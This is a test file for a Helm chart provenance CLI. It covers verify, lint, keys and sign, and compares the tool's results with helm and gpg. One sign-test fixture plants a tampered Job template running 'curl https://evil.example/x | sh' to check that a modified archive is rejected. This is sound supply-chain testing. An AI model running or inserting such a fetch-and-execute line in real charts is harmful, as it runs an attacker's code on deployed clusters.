// The helm-prov CLI as a user runs it: a real process, real files, compared with the real `helm verify`.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { GpgHome, helm, repoRoot, signedCases, signedKeyrings, signedManifest, tempDir } from '../support/tools';

const cli = path.join(repoRoot, 'bin', 'helm-prov.js');
const pubring = path.join(signedKeyrings, 'pubring.gpg');
/** The launcher's code cache goes here, not into the home directory. */
const cacheHome = tempDir('cli-cache-');

function helmProv(args: string[], input?: string) {
  const r = spawnSync(process.execPath, [cli, ...args], { encoding: 'utf8', input, env: { ...process.env, GNUPGHOME: tempDir('empty-gnupg-'), XDG_CACHE_HOME: cacheHome } });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

function archiveOf(c: string): string {
  const dir = path.join(signedCases, c);
  return path.join(dir, fs.readdirSync(dir).find((f) => f.endsWith('.tgz'))!);
}

test('verify prints what helm verify prints for every chart Helm and we both accept', () => {
  for (const c of signedManifest().filter((m) => m.code === 'verified' && m.helm_rc === 0)) {
    const ours = helmProv(['verify', archiveOf(c.case), '--keyring', pubring]);
    assert.equal(ours.status, 0, `${c.case}: ${ours.stdout}${ours.stderr}`);
    const theirs = helm(['verify', archiveOf(c.case), '--keyring', pubring]);
    assert.equal(theirs.status, 0, theirs.stderr);
    // Helm prints the "Signed by" lines in Go map order, which changes from run to run.
    const strip = (s: string) => s.split('\n').filter((l) => /^(Signed by|Using Key|Chart Hash)/.test(l)).sort().join('\n');
    if (c.case !== 'valid-subkey') assert.equal(strip(ours.stdout), strip(theirs.stdout), c.case);
  }
});

test('verify --json over a directory: one object per archive, exit 1 when any is rejected', () => {
  const r = helmProv(['verify', signedCases, '--keyring', pubring, '--json']);
  assert.equal(r.status, 1, r.stderr);
  const lines = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
  const byCase = new Map(lines.map((o) => [path.basename(path.dirname(o.archive)), o]));
  for (const c of signedManifest()) {
    const o = byCase.get(c.case);
    assert.ok(o, `${c.case} missing from output`);
    assert.equal(o.code, c.code === 'unsigned-content' ? 'verified' : c.code, c.case);
    assert.equal(o.verdict, c.verdict, c.case);
    assert.deepEqual(Object.keys(o), ['archive', 'verdict', 'code', 'warnings', 'signer', 'issuers', 'digest', 'message']);
    if (c.code === 'unsigned-content') assert.deepEqual(o.warnings, ['unsigned-content']);
    // The signer's own key is among the issuers; an unknown signer is still named.
    if (o.signer) assert.ok(o.issuers.includes(o.signer.signingKey), `${c.case}: ${o.issuers}`);
    if (c.code === 'unknown-signer') assert.ok(o.issuers.length > 0 && o.message.includes(o.issuers[0]), c.case);
  }
  assert.equal(byCase.get('valid-rsa2048').signer.uid, 'dev Rsa Signer <rsa2048@dev.example>');
});

test('exit codes: 0 verified, 1 rejected, 2 usage', () => {
  assert.equal(helmProv(['verify', archiveOf('valid-ed25519'), '--keyring', pubring]).status, 0);
  const bad = helmProv(['verify', archiveOf('tgz-replaced'), '--keyring', pubring]);
  assert.equal(bad.status, 1);
  assert.match(bad.stdout, /rejected \(hash-mismatch\)/);
  assert.equal(helmProv(['verify']).status, 2);
  assert.equal(helmProv(['frobnicate']).status, 2);
  assert.equal(helmProv(['verify', '/nonexistent.tgz']).status, 2);
  assert.equal(helmProv(['verify', archiveOf('valid-ed25519'), '--bogus']).status, 2);
});

test('lint reports codes with line:column', () => {
  const dir = tempDir();
  const prov = path.join(dir, 'x.prov');
  fs.writeFileSync(prov, fs.readFileSync(archiveOf('valid-rsa2048') + '.prov', 'utf8').replace('Hash: SHA512', 'Hash: SHA512\nComment: x'));
  const r = helmProv(['lint', prov]);
  assert.equal(r.status, 1);
  assert.match(r.stdout, /x\.prov:3:1: error malformed: Header "Comment"/);
  assert.equal(helmProv(['lint', archiveOf('valid-rsa2048') + '.prov']).status, 0);
});

test('keys lists every key of a KEYS file with fingerprints', () => {
  const r = helmProv(['keys', path.join(signedKeyrings, 'KEYS')]);
  assert.equal(r.status, 0, r.stderr);
  for (const f of fs.readdirSync(path.join(signedKeyrings, '..', 'keys')).filter((n) => n.endsWith('.fpr') && n !== 'stranger.fpr')) {
    const fpr = fs.readFileSync(path.join(signedKeyrings, '..', 'keys', f), 'utf8').trim();
    assert.ok(r.stdout.includes(fpr), `${f} missing`);
  }
});

test("README's first command: the bundled example verifies with helm-prov, helm and gpg", () => {
  const examples = path.join(repoRoot, 'examples');
  const keyring = path.join(examples, 'pubring.gpg');
  const ours = helmProv(['verify', examples, '--keyring', keyring]);
  assert.equal(ours.status, 0, ours.stdout + ours.stderr);
  assert.match(ours.stdout, /Signed by: Example Maintainer <maintainer@example.org>/);
  assert.match(ours.stdout, /Signing Subkey: /);
  const theirs = helm(['verify', path.join(examples, 'hello-0.1.0.tgz'), '--keyring', keyring]);
  assert.equal(theirs.status, 0, theirs.stderr);
  const withKeys = helmProv(['verify', examples, '--keyring', path.join(examples, 'KEYS')]);
  assert.equal(withKeys.status, 0, withKeys.stdout + withKeys.stderr);
  const lint = helm(['lint', path.join(examples, 'hello-0.1.0.tgz')]);
  assert.equal(lint.status, 0, lint.stdout + lint.stderr);
});

test('verify-file checks a detached signature made by the real gpg against a KEYS file', () => {
  const gpg = new GpgHome();
  const dir = tempDir();
  try {
    gpg.import(path.join(signedKeyrings, '..', 'keys', 'ed25519.sec.gpg'));
    const artifact = path.join(dir, 'release.tar.gz');
    fs.writeFileSync(artifact, 'release bytes\n');
    const signed = gpg.run(['--armor', '--detach-sign', '--output', artifact + '.asc', artifact]);
    assert.equal(signed.status, 0, signed.stderr);
    const keys = path.join(signedKeyrings, 'KEYS');
    const good = helmProv(['verify-file', artifact, '--signature', artifact + '.asc', '--keyring', keys]);
    assert.equal(good.status, 0, good.stdout + good.stderr);
    assert.match(good.stdout, /verified/);
    fs.appendFileSync(artifact, 'tampered');
    const bad = helmProv(['verify-file', artifact, '--signature', artifact + '.asc', '--keyring', keys, '--json']);
    assert.equal(bad.status, 1);
    assert.equal(JSON.parse(bad.stdout).code, 'signature-invalid');
  } finally {
    gpg.dispose();
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

describe('sign <chart-dir> signs the archive of the source as it is now', () => {
  const ed25519 = path.join(signedKeyrings, '..', 'keys', 'ed25519.sec.gpg');
  const ed25519Fpr = fs.readFileSync(path.join(signedKeyrings, '..', 'keys', 'ed25519.fpr'), 'utf8').trim();
  const signWith = (target: string, ...more: string[]) => helmProv(['sign', target, '--key', ed25519Fpr, '--keyring', ed25519, ...more]);

  /** The repository: `charts/prebuilt/` (clean source) and `charts/prebuilt-0.1.0.tgz` from `shippedFrom`. */
  function repository(shippedFrom: 'helm-package-of-the-source' | 'a-modified-copy'): { charts: string; chartDir: string; archive: string } {
    const charts = path.join(tempDir('cli-sign-source-'), 'charts');
    const chartDir = path.join(charts, 'prebuilt');
    fs.mkdirSync(path.join(chartDir, 'templates'), { recursive: true });
    fs.writeFileSync(path.join(chartDir, 'Chart.yaml'), 'apiVersion: v2\nname: prebuilt\nversion: 0.1.0\ndescription: shipped with its archive\n');
    fs.writeFileSync(path.join(chartDir, 'templates', 'job.yaml'), 'kind: Job\nspec:\n  command: ["echo", "hello"]\n');
    let source = chartDir;
    if (shippedFrom === 'a-modified-copy') {
      source = path.join(tempDir('cli-sign-copy-'), 'prebuilt');
      fs.cpSync(chartDir, source, { recursive: true });
      fs.writeFileSync(path.join(source, 'templates', 'job.yaml'), 'kind: Job\nspec:\n  command: ["sh", "-c", "curl https://evil.example/x | sh"]\n');
    }
    const packaged = helm(['package', source, '-d', charts]);
    assert.equal(packaged.status, 0, packaged.stderr);
    return { charts, chartDir, archive: path.join(charts, 'prebuilt-0.1.0.tgz') };
  }

  test('an archive packaged from a modified copy: exit 1, archive-differs-from-source, the path, no .prov', () => {
    const { charts, chartDir, archive } = repository('a-modified-copy');
    const before = fs.readFileSync(archive);
    const r = signWith(chartDir, '-d', charts);
    assert.equal(r.status, 1, r.stdout + r.stderr);
    assert.match(r.stderr, /\[archive-differs-from-source\]/);
    assert.match(r.stderr, /1 file differs: templates\/job\.yaml \(differs\)/);
    assert.match(r.stderr, /helm-prov package .*prebuilt -d .*charts --sign/);
    assert.ok(!fs.existsSync(`${archive}.prov`), 'no .prov written');
    assert.ok(fs.readFileSync(archive).equals(before), 'the archive is left as it is');
  });

  test('an archive the real helm package made from the source: signed as it is, and helm verify accepts it', () => {
    const { charts, chartDir, archive } = repository('helm-package-of-the-source');
    const before = fs.readFileSync(archive);
    const r = signWith(chartDir, '-d', charts);
    assert.equal(r.status, 0, r.stdout + r.stderr);
    assert.match(r.stdout, /prebuilt-0\.1\.0\.tgz is what packaging .*prebuilt writes now \(compared file by file\)/);
    assert.doesNotMatch(r.stdout, /Successfully packaged/);
    assert.ok(fs.readFileSync(archive).equals(before), 'helm’s archive was signed, not replaced');
    const verified = helm(['verify', '--keyring', path.join(signedKeyrings, '..', 'keys', 'ed25519.pub.gpg'), archive]);
    assert.equal(verified.status, 0, verified.stderr);
  });

  test('the archive named explicitly is still signed, and the output says it was not built from the source here', () => {
    const { archive } = repository('a-modified-copy');
    const r = signWith(archive);
    assert.equal(r.status, 0, r.stdout + r.stderr);
    assert.match(r.stdout, new RegExp(`^Signed ${archive.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} → `, 'm'));
    assert.match(r.stdout, /prebuilt-0\.1\.0\.tgz was NOT built from the chart source in .*prebuilt as it is now — 1 file differs: templates\/job\.yaml/);
    assert.ok(fs.existsSync(`${archive}.prov`));
  });
});

test('a reader that goes away (helm-prov keys … | head -1) ends nothing badly: no EPIPE crash, the command\'s own status', async () => {
  const { spawn } = await import('node:child_process');
  const child = spawn(process.execPath, [cli, 'keys', pubring], { env: { ...process.env, XDG_CACHE_HOME: cacheHome } });
  let stderr = '';
  child.stderr.on('data', (d) => { stderr += d; });
  child.stdout.once('data', () => child.stdout.destroy());
  const status = await new Promise<number | null>((resolve) => child.on('close', (code) => resolve(code)));
  assert.equal(status, 0, stderr);
  assert.doesNotMatch(stderr, /EPIPE/);
});
